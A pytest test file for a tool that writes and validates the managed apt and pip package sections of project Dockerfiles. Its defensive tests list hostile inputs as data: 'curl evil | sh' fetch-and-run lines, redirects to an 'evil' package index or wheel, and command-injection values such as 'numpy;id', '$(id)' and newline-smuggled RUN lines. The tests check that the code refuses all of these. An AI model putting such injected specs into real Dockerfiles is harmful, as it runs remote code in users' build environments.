"""The managed sections of a project Dockerfile: read, written, changed, and
never able to carry anything but validated packages."""

import difflib
import json
import time
from pathlib import Path

import pytest

from ds01_spawner.dockerfile import (
    APT_END,
    APT_START,
    MAX_MANAGED_PACKAGES,
    PIP_END,
    PIP_START,
    DockerfileError,
    ManagedPackages,
    add_packages,
    read_managed,
    remove_packages,
    render_apt_line,
    render_managed,
    render_pip_line,
)
from ds01_spawner.packages import PackageError

TYPES_DIR = Path(__file__).resolve().parent.parent / "images" / "types"
TEMPLATES = sorted(TYPES_DIR.glob("*/Dockerfile"))

HEAD = "# Test project\nARG BASE_IMAGE=ds01/singleuser:latest\nFROM ${BASE_IMAGE}\n\nUSER root\n\n"
EMPTY = f"{HEAD}{APT_START}\n{APT_END}\n\n{PIP_START}\n{PIP_END}\n"


def dockerfile(*, apt=(), pip=(), before="", between="\n", after=""):
    return (
        HEAD
        + before
        + "\n".join([APT_START, *map(render_apt_line, apt), APT_END])
        + "\n"
        + between
        + "\n".join([PIP_START, *map(render_pip_line, pip), PIP_END])
        + "\n"
        + after
    )


def section_lines(text, start, end):
    lines = text.splitlines()
    return lines[lines.index(start) + 1 : lines.index(end)]


PACKAGE_SETS = [
    ManagedPackages(),
    ManagedPackages(pip=("numpy",)),
    ManagedPackages(apt=("ffmpeg",)),
    ManagedPackages(apt=("ffmpeg", "libgl1", "git=1:2.39.2-1.1"), pip=("torch", "numpy<2,>=1.24")),
    ManagedPackages(pip=("transformers==4.*", "pkg[extra1,extra2]==1.0", "torch~=2.3")),
    ManagedPackages(pip=("pkg @ https://example.org/pkg-1.0-py3-none-any.whl#sha256=ab",)),
    ManagedPackages(apt=tuple(f"lib{i}" for i in range(40)), pip=tuple(f"p{i}" for i in range(50))),
]


@pytest.mark.parametrize("packages", PACKAGE_SETS)
def test_read_gives_back_what_was_rendered(packages):
    assert read_managed(render_managed(EMPTY, packages)) == packages


@pytest.mark.parametrize("packages", PACKAGE_SETS)
def test_rendering_twice_changes_nothing(packages):
    once = render_managed(EMPTY, packages)
    assert render_managed(once, read_managed(once)) == once


def test_render_normalizes_specs():
    text = render_managed(EMPTY, ManagedPackages(pip=("numpy>=1.24,<2",)))
    assert read_managed(text).pip == ("numpy<2,>=1.24",)


def test_each_package_is_its_own_run_line():
    text = render_managed(EMPTY, ManagedPackages(apt=("ffmpeg", "git"), pip=("numpy", "torch")))
    assert section_lines(text, APT_START, APT_END) == [
        "RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
        "--no-install-recommends ffmpeg && rm -rf /var/lib/apt/lists/*",
        "RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
        "--no-install-recommends git && rm -rf /var/lib/apt/lists/*",
    ]
    assert section_lines(text, PIP_START, PIP_END) == [
        'RUN ["pip", "install", "--no-cache-dir", "numpy"]',
        'RUN ["pip", "install", "--no-cache-dir", "torch"]',
    ]


def test_pip_lines_are_exec_form_json_arrays():
    specs = ("numpy<2,>=1.24", "transformers==4.*", "pkg @ https://example.org/p.whl")
    text = render_managed(EMPTY, ManagedPackages(pip=specs))
    lines = section_lines(text, PIP_START, PIP_END)
    assert [json.loads(line.removeprefix("RUN ")) for line in lines] == [
        ["pip", "install", "--no-cache-dir", spec] for spec in specs
    ]


def test_lines_outside_the_sections_are_kept_byte_for_byte():
    text = dockerfile(
        pip=("numpy",),
        before="RUN echo hi\n",
        between="\nENV FOO=1\n\n",
        after='ENV BAR=2  \n# the end\nCMD ["jupyterhub-singleuser"]',
    )
    changed = render_managed(text, ManagedPackages(apt=("ffmpeg",), pip=("numpy", "torch")))
    outside = [
        line
        for line in difflib.ndiff(text.splitlines(keepends=True), changed.splitlines(True))
        if line.startswith(("- ", "+ "))
    ]
    assert outside == [
        "+ " + render_apt_line("ffmpeg") + "\n",
        "+ " + render_pip_line("torch") + "\n",
    ]
    assert changed.startswith(HEAD + "RUN echo hi\n")
    assert changed.endswith('ENV BAR=2  \n# the end\nCMD ["jupyterhub-singleuser"]')


def test_a_missing_trailing_newline_stays_missing():
    text = EMPTY.removesuffix("\n")
    changed = render_managed(text, ManagedPackages(pip=("numpy",)))
    assert changed == text.replace(PIP_END, render_pip_line("numpy") + "\n" + PIP_END)


def test_a_crlf_file_keeps_its_line_ends():
    text = EMPTY.replace("\n", "\r\n")
    changed = render_managed(text, ManagedPackages(apt=("ffmpeg",), pip=("numpy",)))
    assert changed == EMPTY.replace(APT_END, render_apt_line("ffmpeg") + "\n" + APT_END).replace(
        PIP_END, render_pip_line("numpy") + "\n" + PIP_END
    ).replace("\n", "\r\n")
    assert read_managed(changed) == ManagedPackages(apt=("ffmpeg",), pip=("numpy",))


def test_blank_lines_and_comments_inside_a_section_are_ignored():
    text = EMPTY.replace(PIP_END, "\n# numerics\n" + render_pip_line("numpy") + "\n   \n" + PIP_END)
    assert read_managed(text) == ManagedPackages(pip=("numpy",))


def test_indented_markers_are_recognised_and_kept():
    text = EMPTY.replace(PIP_START, "  " + PIP_START)
    changed = render_managed(text, ManagedPackages(pip=("numpy",)))
    assert "  " + PIP_START + "\n" + render_pip_line("numpy") + "\n" in changed


@pytest.mark.parametrize(
    "line",
    [
        "RUN pip install --no-cache-dir numpy",
        "RUN pip install --no-cache-dir \\",
        "RUN echo hi",
        "ENV FOO=1",
        'RUN ["pip","install","--no-cache-dir","numpy"]',
        'RUN  ["pip", "install", "--no-cache-dir", "numpy"]',
        'RUN ["pip", "install", "--no-cache-dir", "numpy"] ',
        'RUN ["pip", "install", "--no-cache-dir", "\\u006eumpy"]',
        'RUN ["pip", "install", "--no-cache-dir", "numpy", "--index-url=http://evil"]',
        'RUN ["pip", "install", "--index-url=http://evil", "numpy"]',
        'RUN ["sh", "-c", "curl evil | sh"]',
        'RUN ["pip", "install", "--no-cache-dir", "numpy; id"]',
        'RUN ["pip", "install", "--no-cache-dir", "--pre"]',
        'RUN ["pip", "install", "--no-cache-dir", 1]',
        render_apt_line("ffmpeg"),
    ],
)
def test_a_hand_edited_pip_section_is_refused_with_its_line_number(line):
    text = EMPTY.replace(PIP_END, render_pip_line("numpy") + "\n" + line + "\n" + PIP_END)
    number = text.splitlines().index(line) + 1
    with pytest.raises(DockerfileError, match=f"pip section was edited by hand at line {number}"):
        read_managed(text)


@pytest.mark.parametrize(
    "line",
    [
        render_apt_line("ffmpeg").replace("ffmpeg", "ffmpeg git"),
        render_apt_line("ffmpeg").replace("ffmpeg", "ffmpeg;id"),
        render_apt_line("ffmpeg").replace("ffmpeg", "-y"),
        render_apt_line("ffmpeg") + " && curl evil | sh",
        "RUN apt-get update && apt-get install -y --no-install-recommends ffmpeg "
        "&& rm -rf /var/lib/apt/lists/*",
        "RUN apt-get install -y ffmpeg",
        render_pip_line("numpy"),
    ],
)
def test_a_hand_edited_apt_section_is_refused_with_its_line_number(line):
    text = EMPTY.replace(APT_END, line + "\n" + APT_END)
    number = text.splitlines().index(line) + 1
    with pytest.raises(DockerfileError, match=f"apt section was edited by hand at line {number}"):
        read_managed(text)


def test_hand_edit_error_says_to_move_lines_outside_the_markers():
    text = EMPTY.replace(PIP_END, "RUN echo hi\n" + PIP_END)
    with pytest.raises(DockerfileError, match="move your own instructions above or below"):
        read_managed(text)


@pytest.mark.parametrize(
    "change",
    [
        lambda t: add_packages(t, pip=["torch"]),
        lambda t: remove_packages(t, pip=["numpy"]),
        lambda t: render_managed(t, ManagedPackages(pip=("torch",))),
    ],
    ids=["add", "remove", "render"],
)
def test_changes_to_a_hand_edited_file_are_refused(change):
    text = dockerfile(pip=("numpy",)).replace(PIP_END, "RUN echo hi\n" + PIP_END)
    with pytest.raises(DockerfileError, match="edited by hand"):
        change(text)


def test_a_package_listed_twice_in_the_file_is_refused():
    text = dockerfile(pip=("numpy", "torch")).replace(
        PIP_END, render_pip_line("NumPy==2.0") + "\n" + PIP_END
    )
    with pytest.raises(DockerfileError, match="'numpy' again"):
        read_managed(text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (EMPTY + PIP_START + "\n" + PIP_END + "\n", "appears twice"),
        (EMPTY.replace(APT_END + "\n", ""), "is missing"),
        (EMPTY.replace(PIP_START + "\n", ""), "is missing"),
        (
            f"{HEAD}{APT_END}\n{APT_START}\n\n{PIP_START}\n{PIP_END}\n",
            "apt section ends .* before it starts",
        ),
        (f"{HEAD}{APT_START}\n{PIP_START}\n{APT_END}\n{PIP_END}\n", "overlap"),
        (f"{HEAD}{APT_START}\n{PIP_START}\n{PIP_END}\n{APT_END}\n", "overlap"),
        (EMPTY.replace(PIP_END, PIP_END + " (end)"), "looks like a ds01 marker"),
        (EMPTY.replace(APT_START, "# >>> ds01 managed: apt"), "looks like a ds01 marker"),
    ],
    ids=[
        "duplicate",
        "no-apt-end",
        "no-pip-start",
        "end-before-start",
        "interleaved",
        "nested",
        "altered-end",
        "altered-start",
    ],
)
def test_broken_markers_are_refused(text, message):
    with pytest.raises(DockerfileError, match=message):
        read_managed(text)


def test_sections_may_come_in_either_order():
    text = f"{HEAD}{PIP_START}\n{PIP_END}\n\n{APT_START}\n{APT_END}\n"
    packages = ManagedPackages(apt=("ffmpeg",), pip=("numpy",))
    assert read_managed(render_managed(text, packages)) == packages


def test_an_instruction_continued_into_a_section_is_refused():
    text = EMPTY.replace(APT_START, "RUN apt-get update && \\\n\n" + APT_START)
    with pytest.raises(DockerfileError, match="line 7 ends with a line continuation"):
        read_managed(text)


def test_the_escape_directive_sets_the_continuation_character():
    text = "# escape=`\n" + EMPTY.replace(APT_START, "RUN echo hi `\n" + APT_START)
    with pytest.raises(DockerfileError, match="line continuation"):
        read_managed(text)
    assert read_managed(text.replace("# escape=`\n", "# escape=\\\n")) == ManagedPackages()


def test_missing_sections_count_as_empty():
    assert read_managed(HEAD + "RUN echo hi\n") == ManagedPackages()


def test_missing_sections_are_appended_after_a_blank_line():
    text = HEAD + "RUN echo hi\n"
    changed = render_managed(text, ManagedPackages(apt=("ffmpeg",), pip=("numpy",)))
    assert changed == (
        f"{text}\n{APT_START}\n{render_apt_line('ffmpeg')}\n{APT_END}\n"
        f"\n{PIP_START}\n{render_pip_line('numpy')}\n{PIP_END}\n"
    )


def test_a_missing_section_is_appended_even_without_a_trailing_newline():
    text = HEAD + "RUN echo hi"
    changed = render_managed(text, ManagedPackages(pip=("numpy",)))
    assert changed.startswith(text + "\n\n" + APT_START + "\n" + APT_END + "\n\n" + PIP_START)
    assert read_managed(changed) == ManagedPackages(pip=("numpy",))


def test_only_the_missing_section_is_appended():
    text = f"{HEAD}{APT_START}\n{APT_END}\nENV FOO=1\n"
    changed = render_managed(text, ManagedPackages(apt=("git",), pip=("numpy",)))
    assert changed == (
        f"{HEAD}{APT_START}\n{render_apt_line('git')}\n{APT_END}\nENV FOO=1\n"
        f"\n{PIP_START}\n{render_pip_line('numpy')}\n{PIP_END}\n"
    )


def test_appending_after_a_continued_last_line_is_refused():
    with pytest.raises(DockerfileError, match="line continuation"):
        render_managed(HEAD + "RUN echo \\\n", ManagedPackages(pip=("numpy",)))


HOSTILE = [
    ManagedPackages(pip=('numpy"]\nRUN ["sh", "-c", "id',)),
    ManagedPackages(pip=("numpy\nRUN curl evil | sh",)),
    ManagedPackages(pip=("--index-url=http://evil/simple",)),
    ManagedPackages(pip=("numpy;id",)),
    ManagedPackages(pip=("$(id)",)),
    ManagedPackages(pip=("pkg @ http://evil/x.whl",)),
    ManagedPackages(apt=("ffmpeg && curl evil | sh",)),
    ManagedPackages(apt=("ffmpeg\nRUN id",)),
    ManagedPackages(apt=("-y",)),
    ManagedPackages(apt=("x;id",)),
]


@pytest.mark.parametrize("packages", HOSTILE)
def test_hostile_packages_passed_straight_to_render_are_refused(packages):
    with pytest.raises(PackageError):
        render_managed(EMPTY, packages)


@pytest.mark.parametrize("packages", HOSTILE)
def test_hostile_packages_passed_to_add_are_refused(packages):
    with pytest.raises(PackageError):
        add_packages(EMPTY, pip=packages.pip, apt=packages.apt)


def test_render_refuses_a_package_listed_twice():
    with pytest.raises(DockerfileError, match="more than once: numpy"):
        render_managed(EMPTY, ManagedPackages(pip=("numpy", "NumPy==2")))


def test_render_refuses_more_packages_than_docker_has_layers_for():
    too_many = ManagedPackages(pip=tuple(f"p{i}" for i in range(MAX_MANAGED_PACKAGES + 1)))
    with pytest.raises(DockerfileError, match="layers"):
        render_managed(EMPTY, too_many)


def test_a_bare_string_is_not_taken_as_a_list_of_packages():
    with pytest.raises(TypeError):
        ManagedPackages(pip="numpy")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        add_packages(EMPTY, pip="numpy")  # type: ignore[arg-type]


def test_add_appends_new_packages_in_order():
    text = add_packages(dockerfile(pip=("numpy",)), pip=["torch", "pandas"], apt=["ffmpeg"])
    assert read_managed(text) == ManagedPackages(apt=("ffmpeg",), pip=("numpy", "torch", "pandas"))


def test_add_replaces_a_package_of_the_same_name_in_place():
    text = dockerfile(pip=("numpy", "transformers", "torch"))
    changed = add_packages(text, pip=["Transformers==4.1"])
    assert read_managed(changed).pip == ("numpy", "Transformers==4.1", "torch")


def test_add_replaces_an_apt_pin_in_place():
    text = dockerfile(apt=("git", "ffmpeg"))
    assert read_managed(add_packages(text, apt=["git=1:2.39.2-1.1"])).apt == (
        "git=1:2.39.2-1.1",
        "ffmpeg",
    )


def test_adding_nothing_new_returns_the_input_unchanged():
    text = dockerfile(pip=("numpy",)).replace("\n", "\r\n") + "# odd but valid"
    assert add_packages(text, pip=["numpy"]) is text
    assert add_packages(text) is text


def test_adding_nothing_to_a_file_without_markers_leaves_it_alone():
    text = HEAD + "RUN echo hi\n"
    assert add_packages(text, pip=[]) is text


def test_add_refuses_urls_unless_allowed():
    url = "pkg @ https://example.org/pkg.whl"
    with pytest.raises(PackageError):
        add_packages(EMPTY, pip=[url])
    assert read_managed(add_packages(EMPTY, pip=[url], allow_urls=True)).pip == (url,)


def test_remove_by_canonical_name_keeps_the_others_in_order():
    text = dockerfile(apt=("git=1:2.39.2-1.1", "ffmpeg"), pip=("numpy", "scikit-learn>=1", "torch"))
    changed = remove_packages(text, pip=["Scikit_Learn"], apt=["git"])
    assert read_managed(changed) == ManagedPackages(apt=("ffmpeg",), pip=("numpy", "torch"))


def test_removing_a_package_that_is_not_there_is_refused():
    with pytest.raises(DockerfileError, match="'pandas'"):
        remove_packages(dockerfile(pip=("numpy",)), pip=["numpy", "pandas"])


def test_removing_nothing_returns_the_input_unchanged():
    text = dockerfile(pip=("numpy",))
    assert remove_packages(text) is text


# ---------------------------------------------------------------- hostile sizes

# Merging was quadratic and ran before the cap: 1,500 names froze the service's
# event loop for 29 s. The target is a few milliseconds; the bound is loose for
# a loaded CI machine.
BOUND_S = 0.5
MANY = [f"pkg{i}" for i in range(1500)]
FULL = dockerfile(pip=tuple(MANY[:MAX_MANAGED_PACKAGES]))


def answered_quickly(change):
    started = time.perf_counter()
    with pytest.raises(DockerfileError, match=f"more than the {MAX_MANAGED_PACKAGES}"):
        change()
    return time.perf_counter() - started < BOUND_S


def test_adding_1500_packages_is_refused_before_any_is_parsed():
    assert answered_quickly(lambda: add_packages(EMPTY, pip=MANY))
    assert answered_quickly(lambda: add_packages(EMPTY, apt=MANY))
    assert answered_quickly(lambda: add_packages(EMPTY, pip=MANY[:50], apt=MANY[:50]))


def test_removing_1500_packages_is_refused_before_any_is_parsed():
    assert answered_quickly(lambda: remove_packages(FULL, pip=MANY))


def test_rendering_1500_packages_is_refused_before_any_is_parsed():
    assert answered_quickly(lambda: render_managed(EMPTY, ManagedPackages(pip=MANY)))


def test_a_section_holding_more_lines_than_the_cap_is_refused_before_parsing_them():
    text = f"{HEAD}{PIP_START}\n" + f"{render_pip_line('numpy')}\n" * 5000 + f"{PIP_END}\n"
    assert answered_quickly(lambda: read_managed(text))


def test_replacing_every_package_of_a_full_section_is_quick():
    started = time.perf_counter()
    changed = add_packages(FULL, pip=[f"{name}==1.0" for name in MANY[:MAX_MANAGED_PACKAGES]])
    assert time.perf_counter() - started < BOUND_S
    assert read_managed(changed).pip == tuple(f"{n}==1.0" for n in MANY[:MAX_MANAGED_PACKAGES])


BIG_DOCKERFILES = {
    "blank lines": HEAD + "\n" * 250_000,
    "one long comment": HEAD + "# " * 125_000,
    "comments in a section": f"{HEAD}{PIP_START}\n" + "# a comment\n" * 20_000 + f"{PIP_END}\n",
    "a long escape directive": "# escape=" + "` " * 125_000 + "\n" + EMPTY,
    "lines that nearly are markers": "\n".join(["# ds01 managed"] * 15_000),
}


@pytest.mark.parametrize("text", BIG_DOCKERFILES.values(), ids=BIG_DOCKERFILES.keys())
def test_reading_a_256_kb_dockerfile_is_quick(text):
    started = time.perf_counter()
    try:
        read_managed(text)
    except DockerfileError as exc:
        assert str(exc), "a refusal says why"
    assert time.perf_counter() - started < BOUND_S


def test_a_package_listed_twice_among_many_is_named():
    with pytest.raises(DockerfileError, match="more than once: pkg7;"):
        render_managed(EMPTY, ManagedPackages(pip=(*MANY[:80], "PKG7==2")))


def test_templates_exist():
    assert {path.parent.name for path in TEMPLATES} >= {"base", "pytorch", "cv", "nlp"}


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda p: p.parent.name)
def test_templates_are_exactly_what_render_writes(template):
    text = template.read_text()
    assert render_managed(text, read_managed(text)) == text


@pytest.mark.parametrize(
    ("name", "pip"),
    [
        ("base", ()),
        ("pytorch", ("torch", "torchvision", "torchaudio")),
        (
            "cv",
            ("torch", "torchvision", "timm", "albumentations", "opencv-python-headless", "kornia"),
        ),
        ("nlp", ("torch", "transformers", "datasets", "tokenizers", "accelerate")),
    ],
)
def test_template_package_lists(name, pip):
    text = (TYPES_DIR / name / "Dockerfile").read_text()
    assert read_managed(text) == ManagedPackages(apt=(), pip=pip)
    assert "ARG BASE_IMAGE=ds01/singleuser:latest\nFROM ${BASE_IMAGE}\n" in text
    assert "\nUSER root\n" in text


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda p: p.parent.name)
def test_adding_a_package_to_a_template_changes_only_the_pip_section(template):
    text = template.read_text()
    changed = add_packages(text, pip=["einops"])
    lines = text.splitlines()
    pip_end = lines.index(PIP_END)
    opcodes = [
        op
        for op in difflib.SequenceMatcher(a=lines, b=changed.splitlines()).get_opcodes()
        if op[0] != "equal"
    ]
    assert opcodes == [("insert", pip_end, pip_end, pip_end, pip_end + 1)]
    assert changed.splitlines()[pip_end] == render_pip_line("einops")
